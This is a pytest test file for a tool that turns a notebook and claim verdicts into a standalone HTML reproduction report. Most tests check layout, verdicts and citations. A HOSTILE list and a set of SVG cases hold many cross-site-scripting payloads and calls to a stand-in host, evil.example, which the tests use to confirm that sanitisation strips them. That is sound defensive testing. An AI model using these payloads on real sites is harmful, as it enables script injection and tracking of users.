"""The report: safe whatever the notebook says, complete in itself, and true to the verdicts."""

import base64
import hashlib
import json
import re
import shlex
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from redraw.workbook import _pages as pages
from redraw.workbook import _report as report
from redraw.workbook import _ruling
from redraw.workbook._claims import Samples
from redraw.workbook._command import command
from redraw.workbook._judge import _region
from redraw.workbook._picture import draw, draw_parts
from redraw.workbook._report import ReportError, write_report
from redraw.workbook._story import mathml, read_figures, tell

LOADS = {
    "img": "src",
    "link": "href",
    "source": "src",
    "image": "href",
    "use": "href",
    "audio": "src",
    "video": "src",
}
NEVER = [
    "script",
    "iframe",
    "object",
    "embed",
    "link",
    "base",
    "form",
    "input",
    "button",
    "foreignobject",
    "animate",
]


def read(folder: Path) -> BeautifulSoup:
    return BeautifulSoup((folder / "report.html").read_text("utf-8"), "html.parser")


def report_of(make_version, make_card, cells=None, **changes) -> BeautifulSoup:
    card = make_card()
    folder = make_version(card, cells=cells, **changes)
    write_report(folder, card)
    return read(folder)


def assert_inert(soup: BeautifulSoup) -> None:
    """No active element, no handler, no style attribute, no address but data: pictures, links and marks."""
    assert not soup(NEVER)
    assert [tag["http-equiv"] for tag in soup("meta") if tag.get("http-equiv")] == ["Content-Security-Policy"]
    assert len(soup("style")) == 1 and not soup("style")[0].find_parent("body")
    for tag in soup(True):
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on") and name.lower() != "style", tag
            assert "javascript:" not in str(value).lower() or name in ("alt", "aria-label", "title"), tag
        if tag.name in LOADS and tag.get(LOADS[tag.name]) is not None:
            assert re.match(r"data:image/|#sign-", tag[LOADS[tag.name]]), tag
        if tag.name == "a" and tag.get("href"):
            assert re.match(r"https?://|mailto:|#|[\w./-]+(#|$)", tag["href"]), tag
            assert not tag["href"].lower().startswith("data:")
        assert not {"srcset", "action", "formaction", "background", "ping", "xlink:href"} & set(tag.attrs), tag


def test_the_page_stands_alone_and_runs_nothing(make_version, make_card):
    soup = report_of(make_version, make_card)
    assert_inert(soup)
    assert soup.html["lang"] == "en"
    assert soup.find(id="claims") and soup.find("a", class_="skip")["href"] == "#claims"
    for link in soup("a", href=re.compile("^#")):
        assert soup.find(id=link["href"][1:]), link


def test_the_policy_admits_only_its_own_style_sheet(make_version, make_card):
    soup = report_of(make_version, make_card)
    policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    rules = dict(rule.strip().split(" ", 1) for rule in policy["content"].split(";"))
    digest = base64.b64encode(hashlib.sha256(soup.style.string.encode()).digest()).decode()
    assert rules == {
        "default-src": "'none'",
        "img-src": "data:",
        "style-src": f"'sha256-{digest}'",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    page = str(soup)
    assert page.index("Content-Security-Policy") < page.index("<style>")


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.png'>",
    "<img srcset='https://evil.example/a 1x' src='//evil.example/b'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x' onclick='alert(1)'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=x><button formaction='javascript:alert(1)'>x</button></form>",
    "<style>@import url('https://evil.example/x.css')</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table><td background='https://evil.example/x'><th colspan=99999999999>x</table>",
    "</div></main></body><script>alert(1)</script>",
    "<p title='<table onmouseover=alert(1)>'>x</p><abbr title='<table \" onmouseover=alert(1)>'>y</abbr>",
    "<x-y onclick=alert(1)>x</x-y><video src='https://evil.example/v'><source src='https://evil.example/w'></video>",
    "![x](javascript:alert(1)) [x](javascript:alert(1)) ![y](https://evil.example/y.png)",
    "[x](<javascript:alert(1)> 'title') <javascript:alert(1)>",
    "&#xe000;" + "9" * 5000 + "&#xe001; <i>&#xe000;0&#xe001;</i> <abbr title='&#xe000;0&#xe001;'>$z$</abbr>",
    "[$x$](https://a.example '\ue0000\ue001') ![$a\"><script>$](x) <abbr title='\ue0000\ue001'>$y$</abbr>",
    r"$\text{<script>alert(1)</script>}$ $$\href{javascript:alert(1)}{x}$$ $\style{color:red}{x}$",
    r"$\text{<img src=x onerror=alert(1)>} \unknown{<script>}$ $\begin{<script>}$",
    "```html\n<script>alert(1)</script>\n```\n\n`<script>alert(1)</script>`",
    "```mermaid\n<script>alert(1)</script>\n```",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_anywhere(make_version, make_card, text):
    plain = {"output_type": "display_data"}
    cells = [
        new_markdown_cell(text, attachments={"x.png": {"image/png": text}}),
        new_markdown_cell("![y](attachment:x.png) ![z](attachment:none.png)"),
        new_code_cell(f"x = '''{text}'''", outputs=[
            new_output("stream", name="stdout", text=text),
            new_output("stream", name="stderr", text=text),
            new_output("error", ename=text, evalue=text, traceback=[text]),
            new_output(**plain, data={"text/html": text}),
            new_output(**plain, data={"text/markdown": text}),
            new_output(**plain, data={"text/latex": text}),
            new_output(**plain, data={"text/plain": text}),
            new_output(**plain, data={"image/svg+xml": text}, metadata={"image/svg+xml": {"figure": text}}),
            new_output(**plain, data={"image/png": text}, metadata={"image/png": {"alt": text}}),
            new_output(**plain, data={"application/javascript": text, "text/plain": text}),
        ]),
    ]  # fmt: skip
    card = make_card()
    claims = [claim.model_dump() | {"statement": text, "place": text, "notes": text} for claim in card.claims]
    papers = [card.papers[0].model_dump() | {"title": text, "authors": [text]}]
    card = make_card(title=text, question=text, topic=text, claims=claims, papers=papers)
    folder = make_version(card, cells=cells)
    for name, key in (("results.json", "claims"), ("run.json", "hardware")):
        plain = json.loads((folder / name).read_text())
        plain[key] = plain[key] if key == "claims" else {text: [text, {text: text}]}
        for ruling in plain["claims"] if key == "claims" else ():
            ruling |= {"remarks": [text], "criterion": text, "outcome": text, "scope": text, "unit": text}
            for part in ruling.get("parts", ()):
                part |= {"name": text, "extra": text}
        plain["parameters"] = {text: text}
        plain["started"] = text
        (folder / name).write_text(json.dumps(plain))
    (folder / "figures" / "accuracy.txt").write_text(text)
    (folder / "figures" / "accuracy.csv").write_text(f'a,b\n"{text.replace(chr(34), "")}",1\n')
    write_report(folder, card)
    soup = read(folder)
    assert_inert(soup)
    assert "<script" not in str(soup).lower()
    assert not [svg for svg in soup("svg") if set(svg["class"]) - {"signs", "sign", "ruling"}]


@pytest.mark.parametrize(
    "drawing",
    [
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'><path/></a></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><a href='&#106;avascript:alert(1)'><path/></a></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/x.png'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><path style='fill:url(https://evil.example/x#a)'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p>x</p></foreignObject></svg>",
        "<!DOCTYPE svg [<!ENTITY x 'y'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
    ],
)
def test_a_drawing_that_could_act_is_left_out(make_version, make_card, drawing):
    address = "data:image/svg+xml;base64," + base64.b64encode(drawing.encode()).decode()
    cells = [
        new_code_cell("x", outputs=[new_output("display_data", data={"image/svg+xml": drawing})]),
        new_markdown_cell(f"![in Markdown]({address})"),
    ]
    soup = report_of(make_version, make_card, cells, svg=drawing)
    assert not soup("img")
    assert len(soup.find_all(string=re.compile("not a plain drawing"))) == 2


def test_figures_come_with_their_words_and_numbers(make_version, make_card):
    soup = report_of(make_version, make_card)
    named = soup.find(id="figure-accuracy")
    assert named.img["src"].startswith("data:image/svg+xml;base64,")
    assert named.img["alt"] == "Accuracy holds until 3.6 % of the weights are left."
    assert named.find("a", href="figures/accuracy.csv")
    assert [cell.text for cell in named("td")] == ["100", "98.0", "21.1", "98.2"]
    assert all(image["alt"].strip() for image in soup("img"))
    assert "More figures" not in soup.text, "the one figure stands where the notebook shows it"
    loose = report_of(make_version, make_card, [new_markdown_cell("Nothing drawn.")], name="0002-laptop-ab12cd34ef")
    assert "More figures" in loose.text and loose.find(id="figure-accuracy")


def test_the_story_is_the_notebook_without_its_machinery(make_version, make_card):
    soup = report_of(make_version, make_card)
    story = soup.find("section", class_="story")
    assert "rounds = 2" not in story.text and "rounds = 9" not in story.text, "parameters stand in their table"
    assert all(code.find_parent("details") for code in story.select(".cell pre > code")), "code is folded"
    assert story.find("details", class_="code").has_attr("open") is False
    opening = story.find("details", class_="opening")
    assert opening.find("h3", string="Lottery tickets") and not opening.has_attr("open")
    assert [tag.text for tag in story("h3")] == ["Lottery tickets", "What is left"]
    messages = story.find("details", class_="messages").pre.text
    assert messages == "5 of 5 done", "only the last state of a line that rewrites itself, without colours"
    frame = story.find("th", string="weights left").find_parent("table")
    assert [th["scope"] for th in frame("th")] == ["col", "col", "row", "row"], "an empty corner heads nothing"
    assert frame.parent["class"] == ["scroll"] and "vertical-align" not in story.text
    assert story.find("th", string="round"), "a Markdown table"


def test_mathematics_is_readable_offline(make_version, make_card):
    soup = report_of(make_version, make_card)
    inline, block = soup("math", display="inline"), soup("math", display="block")
    assert len(inline) == 3 and len(block) == 1
    assert block[0].find("mfrac") and "≤" in block[0].text and "$" not in soup.find(class_="story").text
    assert mathml(r"a < b & c", False).count("<mo>&lt;</mo>") == 1
    assert "<code>" in mathml(r"\frac{", False), "what cannot be read stays as it was typed"


def test_headings_go_down_one_level_at_a_time(make_version, make_card):
    cells = [new_markdown_cell("# A\n\n#### B\n\n# C\n\n###### D\n\n<h5>E</h5>")]
    for number, given in enumerate((None, cells)):
        soup = report_of(make_version, make_card, given, name=f"000{number}-laptop-ab12cd34ef")
        levels = [int(tag.name[1]) for tag in soup(re.compile("^h[1-6]$"))]
        assert levels.count(1) == 1 and levels[0] == 1
        assert all(b <= a + 1 for a, b in zip(levels, levels[1:], strict=False)), levels


def test_claims_come_first_each_with_a_lasting_address(make_version, make_card):
    soup = report_of(make_version, make_card)
    page = str(soup)
    order = ["claims", "every", "trust", "story", "provenance", "deviations", "parameters", "costs", "data", "cite"]
    places = [page.index(f'id="{name}"') for name in order]
    assert places == sorted(places)
    rows = soup.select("table.claims tbody tr")
    assert [row["id"] for row in rows] == [f"claim-{claim.id}" for claim in make_card().claims]
    for table in soup("table"):
        assert table("th") and all(th.get("scope") in ("col", "row") for th in table("th"))
        assert table.find_parent(class_="scroll")["tabindex"] == "0"


def test_a_row_says_what_the_verdict_says(make_version, make_card):
    soup = report_of(make_version, make_card)

    def cell(id, name):
        return " ".join(soup.find(id=f"claim-{id}").find(class_=name).get_text(" ").split())

    outcomes = {id: cell(id, "badge") for id in ("L0", "L1", "L2a", "L2b", "L3", "L4", "L5", "L6", "L7")}
    assert outcomes == {
        "L0": "reproduced", "L1": "reproduced", "L2a": "inconclusive", "L2b": "reproduced", "L3": "reproduced",
        "L4": "contradicted", "L5": "paper error", "L6": "blocked", "L7": "not tested",
    }  # fmt: skip
    assert "Frankle & Carbin 2019, Figure 3" in cell("L1", "claim")
    assert cell("L1", "paper") == "Paper 0.62 read off a figure"
    assert cell("L2a", "paper") == "Paper no number"
    assert re.search(r"interval −0\.\d\d to 0\.\d\d", cell("L2a", "measured"))
    assert "a factor of 1.25" in cell("L1", "criterion") and "ticket over dense" in cell("L1", "criterion")
    assert re.search(r"5 seeds .* \d+ seeds would settle it", cell("L2a", "strength"))
    assert cell("L0", "measured") == "Measured 51.30, 21.07, 13.52, 6.95, 3.58, 2.87, 1.85\xa0%".replace("\xa0", " ")
    assert cell("L5", "measured").startswith("Measured 2,261,184")
    assert "cifar10 could not be reached" in cell("L6", "claim")
    signs = {use["href"] for use in soup.select(".badge use")}
    assert len(signs) == 6, "each outcome has its own sign beside its word"
    trust = soup.find("section", attrs={"aria-labelledby": "trust"}).text
    assert "Scope: reduced" in trust and "L2a is open at 5 seeds" in " ".join(trust.split())
    deviations = soup.find("section", attrs={"aria-labelledby": "deviations"}).text
    assert "2 of 4 parameters differ" in deviations and "rounds 9 (paper: 24)" in deviations


def test_what_a_claim_varies_over_is_named(make_card, make_version):
    """The judge counts seeds; where each value is of another task the page says tasks, also of an older version."""
    claims = [claim.model_dump() | {"over": "tasks"} for claim in make_card().claims]
    card, old = make_card(claims=claims), make_card()
    folder = make_version(old)
    write_report(folder, card)
    text = read(folder).find(id="claim-L2a").get_text(" ")
    assert re.search(r"5 tasks .* \d+ tasks would settle it", " ".join(text.split())) and "5 seeds" not in text


def test_the_picture_has_the_region_that_was_judged(make_card):
    drawn = 0
    for claim in make_card().claims:
        region = _ruling.region(claim)
        if claim.kind in ("exact", "ordering"):
            continue
        low, high, _, show = _region(claim)
        shown = [show(end) if abs(end) != float("inf") else None for end in (low, high)]
        assert region == pytest.approx(shown) if None not in shown else list(region) == shown
        drawn += 1
    assert drawn == 6
    assert _ruling.region(make_card().claim("L5")) == (1_650_000, 1_750_000)
    assert _ruling.region(make_card().claim("L0")) is None


def test_the_picture_puts_numbers_where_they_belong():
    svg = BeautifulSoup(draw(0.4, (0.35, 0.45), (0.3, None), 0.5, unit="pp"), "html.parser").svg
    band, dot = svg.find(class_="holds"), float(svg.find(class_="estimate")["cx"])
    left, right = float(band["x"]), float(band["x"]) + float(band["width"])
    paper = float(re.match(r"M([\d.]+) ", svg.find(class_="paper")["d"])[1])
    start, end = map(float, re.match(r"M([\d.]+) [\d.]+H([\d.]+)", svg.find(class_="interval")["d"]).groups())
    assert left < start < dot < end < paper < right
    assert dot - start == pytest.approx(end - dot, abs=0.11)
    assert (
        svg["aria-label"]
        == "Measured 0.400\xa0pp; interval from 0.350 to 0.450; the claim holds above 0.3; paper 0.5\xa0pp."
    )
    ratio = BeautifulSoup(draw(1.0, (0.5, 2.0), (0.25, 4.0), None, log=True), "html.parser").svg
    start, end = map(float, re.match(r"M([\d.]+) [\d.]+H([\d.]+)", ratio.find(class_="interval")["d"]).groups())
    assert float(ratio.find(class_="estimate")["cx"]) == pytest.approx((start + end) / 2, abs=0.11)
    open_ended = draw(1.0, (None, None), (0.0, 2.0), None)
    assert "anywhere" in open_ended and "NaN" not in open_ended
    assert draw(1.0, None, None, 1.0) == "" and draw(None, None, (0, 1), 1.0) == ""
    assert "cx" in draw(2.0, (2.0, 2.0), (2.0, 2.0), 2.0), "no width at all is still drawn"


def test_each_comparison_has_a_bar_of_its_own(make_version, make_card):
    soup = report_of(make_version, make_card)
    svg = soup.find(id="claim-L3").find("svg", class_="ruling")
    assert [text.text for text in svg("text")][:2] == ["reinit - dense", "ticket - dense"]
    assert len(svg(class_="estimate")) == len(svg(class_="interval")) == len(svg(class_="holds")) == 2
    below, above = ((float(band["x"]), float(band["x"]) + float(band["width"])) for band in svg(class_="holds"))
    reinit, ticket = (float(dot["cx"]) for dot in svg(class_="estimate"))
    assert reinit < below[1], "0.6 pp worse lies where 'below 0' holds"
    assert below[0] < above[0] < below[1] < ticket < above[1], "not 0.1 pp worse, on the same axis"
    assert "reinit - dense: Measured −0.6" in svg["aria-label"] and "the claim holds above −0.1" in svg["aria-label"]
    assert [text.text for text in svg("text")][2:] == ["0\xa0pp"], "−0.1 would run into it"


def test_bars_that_cannot_be_drawn_are_left_out():
    part = {"name": "a - b", "measured": 0.1, "interval": [None, 0.3], "region": [None, 0.0]}
    assert draw_parts([part] * 3, unit="pp").count("<circle") == 3
    assert "a - b: Measured 0.1" in draw_parts([part])
    long = draw_parts([part | {"name": "<b>" + "x" * 40}])
    assert "<b>" not in long and "…" in long and "x" * 40 in long
    assert draw_parts([]) == draw_parts([part] * 25) == ""
    for odd in ({"measured": None}, {"region": None}, {"measured": float("inf")}):
        assert draw_parts([part, part | odd]) == ""
    heights = [BeautifulSoup(draw_parts([part] * n), "html.parser").svg["height"] for n in (2, 6)]
    assert int(heights[1]) - int(heights[0]) == 4 * 22, "every bar has its own row"


def test_how_seeds_were_added_is_told(make_version, make_card):
    folder = make_version(make_card())
    run = json.loads((folder / "run.json").read_text())
    taken = [{"seeds": 3, "level": 0.99, "open": ["L3"]}, {"seeds": 6, "level": 0.99, "open": []}]
    run["looks"] = {"rule": "evenly", "planned": [3, 6, 9], "taken": taken, "stopped": "it is decided"}
    run["looks"] |= {"budget_minutes": 30.0}
    (folder / "run.json").write_text(json.dumps(run))
    write_report(folder, make_card())
    told = " ".join(read(folder).find("section", attrs={"aria-labelledby": "provenance"}).text.split())
    assert "in 2 looks of at most 3: 3 seeds at level 0.99, 6 seeds at level 0.99" in told
    assert "It stopped because it is decided." in told
    assert "-p seeds=3 --until-decided --budget-minutes 30" in told


def test_pictures_that_are_too_many_are_left_out(make_version, make_card):
    big = base64.b64encode(bytes(600_000)).decode()
    cells = [new_code_cell("x", outputs=[new_output("display_data", data={"image/png": big})]) for _ in range(8)]
    cells.append(new_code_cell("print('x' * 10**7)", outputs=[new_output("stream", name="stdout", text="x" * 10**7)]))
    soup = report_of(make_version, make_card, cells)
    assert 2 <= len(soup("img")) < 8 and "A picture is left to report.ipynb" in soup.text
    assert len(str(soup).encode()) < report.LIMIT


def test_a_story_that_is_too_long_is_cut_and_says_so(make_version, make_card):
    cells = [new_markdown_cell("word " * 40_000) for _ in range(20)]
    soup = report_of(make_version, make_card, cells)
    assert "The rest is in report.ipynb" in soup.text and len(str(soup).encode()) < report.LIMIT
    assert soup.find(id="cite")


def test_same_folder_same_bytes(make_version, make_card):
    card = make_card()
    folder = make_version(card)
    write_report(folder, card)
    first = (folder / "report.html").read_bytes()
    write_report(folder, card)
    assert (folder / "report.html").read_bytes() == first
    assert [path.name for path in folder.iterdir() if path.name.startswith(".")] == []


def test_a_moved_margin_is_said_and_the_one_that_ruled_is_drawn(make_version, make_card):
    folder = make_version(make_card())
    claims = [claim.model_dump() for claim in make_card().claims]
    claims[2]["criterion"]["bound"] = 0.1
    write_report(folder, make_card(claims=claims))
    soup = read(folder)
    assert "claims have changed since this run" in soup.text
    assert "the claim holds above 0.3" in soup.find(id="claim-L2a").find(class_="ruling")["aria-label"]
    (folder / "run.json").write_text("{}")
    write_report(folder, make_card())
    soup = read(folder)
    assert "claims have changed since this run" not in soup.text
    assert "the claim holds above 0.3" in soup.find(id="claim-L2a").find(class_="ruling")["aria-label"]


def test_what_was_not_tested_comes_last(make_version, make_card):
    samples = {"L3": Samples.blocked("no data"), "L5": Samples.exact(2261184)}
    soup = report_of(make_version, make_card, samples=samples)
    rows = [row["id"].removeprefix("claim-") for row in soup.select("table.claims tbody tr")]
    assert rows == ["L5", "L0", "L1", "L2a", "L2b", "L3", "L4", "L6", "L7"]


def test_how_it_was_run_is_told(make_version, make_card):
    soup = report_of(make_version, make_card)
    section = soup.find("section", attrs={"aria-labelledby": "provenance"})
    text = " ".join(section.get_text(" ").split())
    assert (
        "Started 21 November 2026, 06:12 UTC; took 3 min 12 s. 120 trials: 20 computed in this run, 100 taken" in text
    )
    assert "Ended completed" in text and "commit 0123456789abcdef0123456789abcdef01234567 uncommitted none" in text
    assert "Computing time of the trials 1 h 2 min" in text and "Seeds 0, 1, 2" in text
    assert "Blocked" not in text, "what is empty is not said"
    libraries = section.find("dd", string="1.39")
    assert libraries.find_parent("details").summary.text == "40 of them"


def test_a_claim_without_a_ruling_is_not_tested(make_version, make_card):
    folder = make_version(make_card())
    results = json.loads((folder / "results.json").read_text())
    results["claims"] = [claim for claim in results["claims"] if claim["id"] != "L1"] + [{"id": "X9", "outcome": "odd"}]
    (folder / "results.json").write_text(json.dumps(results))
    write_report(folder, make_card())
    soup = read(folder)
    assert soup.find(id="claim-L1").find(class_="badge").text == "not tested"
    assert soup.find(id="claim-X9").find(class_="badge").text == "odd"


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("results.json", None, "results.json: cannot be read"),
        ("results.json", "{", "results.json: cannot be read"),
        ("results.json", "[]", "results.json: must be a JSON object"),
        ("run.json", "nonsense", "run.json: cannot be read"),
        ("report.ipynb", None, "report.ipynb"),
        ("report.ipynb", "{}", "must be a notebook"),
        ("report.ipynb", "<html>", "must be a notebook"),
    ],
)
def test_a_broken_version_is_one_clear_line(make_version, make_card, name, text, said):
    folder = make_version(make_card())
    (folder / name).unlink() if text is None else (folder / name).write_text(text)
    with pytest.raises(ReportError, match=said) as caught:
        write_report(folder, make_card())
    assert "\n" not in str(caught.value) and not (folder / "report.html").exists()


def test_the_command_runs_the_same_parameters(make_version, make_card):
    card = make_card()
    folder = make_version(card, parameters={"rounds": "3", "seeds": "4,5", "lr": "0.002"})
    results = json.loads((folder / "results.json").read_text())
    asked = command(card, "laptop", results["parameters"])
    words = shlex.split(asked)
    assert words[:5] == ["redraw", "run", "lottery_ticket", "--preset", "laptop"]
    overrides = dict(word.split("=", 1) for word in words[6::2])
    assert words[5::2] == ["-p"] * 3 and card.resolve("laptop", overrides) == results["parameters"]
    write_report(folder, card)
    soup = read(folder)
    assert soup.find(class_="command").text == asked
    assert len(soup.select(".parameters .main")) == 3


def test_the_citation_can_be_pasted(make_card):
    paper = make_card().papers[0].model_copy(update={"title": "50% of {weights} & $x_1$", "doi": "10.1/x"})
    entry = report.bibtex(paper)
    assert entry.startswith("@misc{frankle2019,\n")
    assert r"title = {{50\% of \{weights\} \& \$x\_1\$}}" in entry
    assert "author = {Jonathan Frankle and Michael Carbin}" in entry and "eprint = {1803.03635}" in entry
    many = paper.model_copy(update={"authors": ["Houyi Li", "et al."]})
    assert "author = {Houyi Li and others}" in report.bibtex(many)
    plain = re.sub(r"\\.", "", entry)
    assert plain.count("{") == plain.count("}")


def test_times_read_well():
    assert [pages.duration(s) for s in (3.21, 59.7, 192.4, 18_120, None)] == [
        "3.2 s", "1 min 0 s", "3 min 12 s", "5 h 2 min", "–",
    ]  # fmt: skip
    assert pages.moment("2026-11-21T06:12:00+00:00") == "21 November 2026, 06:12 UTC"
    assert pages.moment("yesterday") == "yesterday"


def test_names_of_papers():
    class Paper:
        year = 2019

    for authors, said in (
        (["Jonathan Frankle"], "Frankle 2019"),
        (["Frankle, Jonathan", "Michael Carbin"], "Frankle & Carbin 2019"),
        (["A B", "C D", "E F"], "B et al. 2019"),
        (["Houyi Li", "et al."], "Li et al. 2019"),
        (["A B", "C D", "et al."], "B et al. 2019"),
    ):
        Paper.authors = authors
        assert report.short(Paper) == said


def test_figures_without_words_or_numbers_still_stand(tmp_path):
    (tmp_path / "figures").mkdir()
    (tmp_path / "figures" / "early_stop.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    figures = read_figures(tmp_path)
    assert figures["early_stop"].alt == "Figure early stop" and figures["early_stop"].csv is None
    story, rest = tell(nbformat.writes(nbformat.v4.new_notebook()), figures, 10_000)
    assert story == [] and len(rest) == 1


def luminance(colour: str) -> float:
    """WCAG 2.2 relative luminance of `#rrggbb` or `#rgb`."""
    digits = colour[1:] if len(colour) == 7 else "".join(2 * digit for digit in colour[1:])
    shares = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
    linear = [share / 12.92 if share <= 0.04045 else ((share + 0.055) / 1.055) ** 2.4 for share in shares]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_every_text_colour_has_contrast():
    sheet = (Path(report.__file__).parent / "templates" / "page.css").read_text()
    themes = re.findall(r":root \{(.*?)\}", sheet, re.DOTALL)
    assert len(themes) == 3, "light, dark and print"
    for theme in themes:
        colours = dict(re.findall(r"--([\w-]+): (#\w+);", theme))
        for name in ("ink", "soft", "link", *pages.OUTCOMES):
            for ground in ("paper", "raised"):
                light, dark = sorted((luminance(colours[name]), luminance(colours[ground])), reverse=True)
                assert (light + 0.05) / (dark + 0.05) >= 4.5, (name, ground)


def test_the_first_screen_says_what_was_found(make_version, make_card):
    soup = report_of(make_version, make_card)
    found = {article["aria-label"]: article for article in soup.select(".finding")}
    assert list(found) == ["Claim L3", "Claim L0"], "the main claims, those with a picture first"
    page = str(soup)
    assert page.index('class="finding ') < page.index('class="claims"')
    assert found["Claim L3"].find("svg", class_="ruling") and "Both comparisons hold" in found["Claim L3"].text
    assert "scope: reduced" in found["Claim L3"].text and "5 seeds" in found["Claim L3"].text
    assert "equal to the paper's 51.3" in found["Claim L0"].text
    claims = [claim.model_dump() | {"main": claim.id == "L7"} for claim in make_card().claims]
    soup = report_of(make_version, lambda: make_card(claims=claims), name="0002-laptop-ab12cd34ef")
    assert [article["aria-label"] for article in soup.select(".finding")][:2] == ["Claim L1", "Claim L2a"]


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ([0.5, 0.52, 0.51, 0.49], "lies wholly where the claim holds, above 0.3 pp."),
        ([0.1, 0.12, 0.11, 0.09], "lies wholly outside of where the claim holds, above 0.3 pp."),
        ([0.1, 0.5, 0.3, 0.4], "reaches across the edge of where the claim holds, above 0.3 pp."),
        ([], "This run says nothing about it."),
    ],
)
def test_a_sentence_says_why(make_version, make_card, values, said):
    samples = {"L2a": Samples.of(values) if values else Samples.not_tested("this run says nothing about it")}
    folder = make_version(make_card(), samples=samples)
    results, run = (report.read_json(folder / name) for name in ("results.json", "run.json"))
    row = next(row for row in report.rule_rows(results, run, make_card()) if row.id == "L2a")
    assert row.sentence.replace("\N{NO-BREAK SPACE}", " ").endswith(said)
    assert bool(row.picture) == bool(values), "what was not tested is not drawn"


@pytest.mark.parametrize(
    ("parts", "said"),
    [
        ([([1, 2], [0, None]), ([3, 4], [0, None])], "Both comparisons hold."),
        ([([1, 2], [0, None])] * 3, "All 3 comparisons hold."),
        ([([-2, -1], [0, None])] * 3, "All 3 comparisons fail."),
        ([([1, 2], [0, None]), ([-2, -1], [0, None]), ([-1, 1], [0, None])],
         "Of 3 comparisons, 1 holds, 1 fails and 1 is open."),
        ([([1, None], [0, None]), ([None, 1], [0, None])], "Of 2 comparisons, 1 holds and 1 is open."),
        ([(None, [0, None]), ("x", "y")], "Of 2 comparisons, 2 are open."),
    ],
)  # fmt: skip
def test_comparisons_are_counted(parts, said):
    plain = {"outcome": "reproduced", "measured": 1.0}
    plain["parts"] = [{"name": "a", "measured": 1, "interval": i, "region": r} for i, r in parts]
    assert _ruling._sentence(plain, None, "", "1", "", "") == said


def test_costs_are_told_and_the_energy_is_called_an_estimate(make_version, make_card):
    folder = make_version(make_card())
    write_report(folder, make_card())
    section = " ".join(read(folder).find("section", attrs={"aria-labelledby": "costs"}).get_text(" ").split())
    assert "3 min 12 s from start to end" in section and "1 h 2 min on one core" in section
    assert "those too that earlier runs had stored" in section and "were not counted" in section
    # 3723.5 s at 5 and at 15 W are 5.17 and 15.5 Wh
    assert "about 5 to 20 Wh: an estimate" in section and "not measured" in section
    (folder / "trials.csv").write_text("key,seed,flops\na,0,2e9\nb,1,\nc,2,1e9\n")
    write_report(folder, make_card())
    assert "3e+09 floating-point operations, as the trials counted them" in read(folder).text


def test_the_data_of_every_figure_can_be_had(make_version, make_card):
    soup = report_of(make_version, make_card)
    section = soup.find("section", attrs={"aria-labelledby": "data"})
    links = [link["href"] for link in section("a")]
    assert links == ["results.json", "trials.csv", "run.json", "figures/accuracy.csv"]
    assert "weights_left, accuracy" in section.text


def test_this_version_can_be_cited(make_version, make_card):
    soup = report_of(make_version, make_card)
    entries = soup.find(class_="bibtex").text.split("\n\n")
    assert len(entries) == 2 and entries[0].startswith("@misc{redraw_lottery_ticket_0001,")
    assert "note = {version 0001-laptop-ab12cd34ef}" in entries[0] and "year = {2026}" in entries[0]
    assert entries[0].count("{") == entries[0].count("}")


@pytest.mark.parametrize("value", [1_700_000, 0.001, -12.5, 3e9])
def test_labels_of_the_region_stay_inside_and_apart(value):
    for width in (1e-6, 0.01, 0.5):
        half = abs(value) * width
        drawing = BeautifulSoup(draw(value, None, [value - half, value + half], value, unit="pp"), "html.parser")
        texts = [text for text in drawing("text") if text.get("class") != ["paper-name"]]
        spans = [(float(t["x"]) - 3.1 * len(t.text), float(t["x"]) + 3.1 * len(t.text)) for t in texts]
        assert len(spans) == 2 and spans[0][0] >= -0.1 and spans[1][1] <= 280.1
        assert spans[0][1] < spans[1][0]


def test_the_opening_says_at_which_scale_and_what_was_not_tested(make_version, make_card):
    """A verdict is not read without the network, the data and the claims that the run left out."""
    soup = report_of(make_version, make_card)
    scale = " ".join(soup.find(class_="scale").text.split())
    assert "Scope reduced: smaller than the paper" in scale and "rounds 9 (paper: 24)" in scale
    assert "Of 4 parameters 2 are not as in the preset paper (the paper's protocol" in scale
    left_out = [link.text for link in soup.find(class_="scale")("a", href=re.compile("^#claim-"))]
    assert left_out == ["L6", "L7"], "in the order of the claims"
    quantities = [" ".join(finding.find(class_="of").text.split()) for finding in soup(class_="finding")]
    assert quantities and all(text.startswith("Of ") for text in quantities), "what was measured beside the number"


